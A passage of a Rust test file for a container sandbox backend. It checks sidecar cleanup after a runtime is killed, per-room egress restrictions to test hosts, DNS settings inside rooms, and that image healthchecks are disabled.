    settings.auto_remove = env::var_os("HOLD_KEEPS").is_none();
    let backend = DockerBackend::open(Path::new(&env::var_os("HOLD_DATA").unwrap()), settings).unwrap();
    let spec = RoomSpec { egress: Egress::to(vec!["a.test:80".into()]), ..RoomSpec::bare() };
    let room = backend.open(&spec, &env::var("HOLD_OWNER").unwrap()).unwrap();
    eprintln!("holding");
    run(&*room, "sleep 30");
}

#[test]
fn a_runtime_that_is_killed_leaves_no_sidecar() {
    if is_skipped() {
        return;
    }
    let bench = Bench::new(Furnisher::Sidecar, |_| {});
    let data = bench.dir.path().join("data");
    let hold = |owner: &str, keeps: bool| {
        let mut holder = Command::new(env::current_exe().unwrap());
        let test = module_path!().split_once("::").map_or_else(String::new, |(_, module)| format!("{module}::"));
        holder.args(["--exact", &format!("{test}hold_a_container"), "--ignored", "--nocapture"]);
        holder.env("HOLD_DATA", &data).env("HOLD_OWNER", owner).stdout(Stdio::null()).stderr(Stdio::piped());
        if keeps {
            holder.env("HOLD_KEEPS", "1");
        }
        let mut holder = holder.spawn().unwrap();
        let mut said = BufReader::new(holder.stderr.take().unwrap()).lines().map_while(Result::ok);
        assert!(said.any(|line| line.contains("holding")));
        assert_eq!(containers(&bench.rooms, owner).len(), 2);
        holder.kill().unwrap();
        holder.wait().unwrap();
    };
    let gone = format!("{}-gone", bench.name());
    hold(&gone, false);
    let ended = |id: &str| inspect(&bench.rooms, id)["State"]["Running"] != true;
    // Podman removes none that another depends on, and tries once: a room that ends before its sidecar is left to be found.
    let is_gone = |(id, role): &(String, String)| is_podman() && role == "room" && ended(id);
    assert!(eventually(|| containers(&bench.rooms, &gone).iter().all(is_gone)), "a container outlives its runtime");
    // Where the daemon keeps what has ended, both have ended and both are found.
    let kept = format!("{}-kept", bench.name());
    hold(&kept, true);
    assert!(eventually(|| containers(&bench.rooms, &kept).iter().all(|(id, _)| ended(id))), "it still runs");
    let left = containers(&bench.rooms, &gone).len();
    assert_eq!(bench.backend.reconcile().unwrap(), 2 + left);
    assert!(eventually(|| [&gone, &kept].iter().all(|owner| containers(&bench.rooms, owner).is_empty())));
}

#[test]
fn a_sidecar_is_there_for_those_who_cannot_do_without() {
    if is_skipped() {
        return;
    }
    let bench = Bench::new(Furnisher::ByRights, |_| {});
    let room = bench.open(&["a.test:80"]);
    let mut roles: Vec<String> = bench.containers().into_iter().map(|(_, role)| role).collect();
    roles.sort();
    let expected: &[&str] = if is_root() { &["room"] } else { &["room", "sidecar"] };
    assert_eq!(roles, expected);
    assert_eq!(says(&*room, "cat /etc/resolv.conf"), "nameserver 198.18.0.1\noptions timeout:2 attempts:1\n");
    // What an image wants the daemon to run in its containers is not run.
    for (container, _) in bench.containers() {
        let check = &inspect(&bench.rooms, &container)["Config"]["Healthcheck"]["Test"];
        assert_eq!(check, &json!(["NONE"]));
    }
}

#[test]
fn two_rooms_have_two_ways_out() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |_| {});
        two_servers(&mut bench);
        let (to_a, to_b) = (bench.open(&["a.test:80"]), bench.open(&["b.test:80"]));
        let ask = |room: &dyn Room, name: &str| hears(room, &format!("{name} 80"), &http(name)).stdout.text;
        assert_eq!((ask(&*to_a, "a.test"), ask(&*to_b, "b.test")), ("from-a\n".into(), "from-b\n".into()));
        assert!(!ask(&*to_a, "b.test").contains("from-") && !ask(&*to_b, "a.test").contains("from-"));
        drop(to_a);
        assert_eq!(ask(&*to_b, "b.test"), "from-b\n", "the end of one is the end of another");
    });
}
